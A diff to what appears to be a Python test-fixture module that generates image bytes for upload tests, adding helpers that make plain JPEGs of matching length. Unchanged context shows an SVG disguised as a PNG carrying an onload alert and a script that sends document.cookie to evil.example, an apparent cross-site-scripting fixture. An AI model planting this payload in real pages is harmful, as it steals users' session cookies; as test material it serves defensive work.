@@ -109,3 +109,19 @@ def big_rotated(fmt: str, size: tuple[int, int] = (8000, 8000)) -> bytes:
 def svg_named_png() -> bytes:
     return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
             b'<script>fetch("https://evil.example/"+document.cookie)</script></svg>')
+
+
+def plain_jpeg(size: tuple[int, int] = (64, 48), shade: int = 200) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, (shade, 200, 30)).save(out, "JPEG", quality=85)
+    return out.getvalue()
+
+
+def same_size_other_jpeg(data: bytes) -> bytes:
+    """Another plain JPEG of exactly the same length as ``data`` (the size a slot announced)."""
+    size = Image.open(io.BytesIO(data)).size
+    for shade in range(256):
+        other = plain_jpeg(size, shade)
+        if len(other) == len(data) and other != data:
+            return other
+    raise AssertionError("no other picture of the same length")
